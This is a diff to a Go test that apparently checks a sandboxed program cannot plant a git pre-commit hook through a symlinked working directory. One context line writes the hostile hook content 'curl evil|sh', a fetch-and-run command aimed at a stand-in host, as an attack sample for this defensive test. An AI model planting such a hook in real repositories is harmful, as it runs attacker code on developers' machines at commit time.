@@ -103,6 +103,11 @@ func TestGitMissingHooksLinkedWorkdir(t *testing.T) {
 				t.Fatalf("git init: %v\n%s", err, out)
 			}
 			os.RemoveAll(filepath.Join(real, "proj", ".git", "hooks"))
+			// Redirects below the root are not "reached through a symlink".
+			mustMkdir(t, filepath.Join(real, "proj", ".husky", "_"))
+			writeFile(t, filepath.Join(real, "proj", ".husky", "_", "pre-commit"), "#!/bin/sh\n")
+			writeFile(t, filepath.Join(real, "proj", "local.cfg"), "")
+			writeFile(t, filepath.Join(real, "proj", ".git", "config"), "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../local.cfg\n")
 			chownTree(t, real, u)
 			// PWD as a shell sets it after cd: the working directory as named.
 			w.dir = filepath.Join(base, "link", "proj")
@@ -110,6 +115,9 @@ func TestGitMissingHooksLinkedWorkdir(t *testing.T) {
 				"/bin/sh", "-c", "mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit")
 			if w.exists(filepath.Join(real, "proj", ".git", "hooks", "pre-commit")) {
 				t.Errorf("the program planted .git/hooks/pre-commit through the linked workdir; exit %d, stderr %q", r.code, r.stderr)
+			}
+			if strings.Contains(r.stderr, "symlink") {
+				t.Errorf("a warning about the user's own symlink: %q", r.stderr)
 			}
 		})
 	}
